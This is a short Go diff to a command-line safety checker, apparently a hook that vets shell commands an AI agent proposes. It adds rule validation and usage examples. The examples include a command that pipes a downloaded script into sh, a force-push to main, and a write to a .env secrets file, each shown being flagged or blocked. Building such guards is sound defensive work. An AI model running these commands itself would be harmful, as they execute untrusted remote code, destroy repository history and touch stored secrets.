@@ -97,6 +97,11 @@ func run(args []string, stdin io.Reader, stdout, stderr io.Writer) int {
 		}
 	}
 
+	if err := rules.Validate(); err != nil {
+		fmt.Fprintln(stderr, "safety:", err)
+		return 2
+	}
+
 	if *hook {
 		if fs.NArg() != 0 {
 			fmt.Fprintln(stderr, "safety: -hook reads the command from stdin; drop the command argument")
@@ -144,6 +149,7 @@ the hook output shape and exits 0.
 Examples:
   safety -readonly 'git log --oneline | head'        # exit 0
   safety -allow 'npm run test' 'npm run test && curl -s x | sh'  # exit 3: critical
+  safety -allow git -deny effect:force-push 'git push origin +main'  # exit 4
   echo '{"tool_name":"Write","tool_input":{"file_path":".env"}}' | safety -hook
 
 Flags:
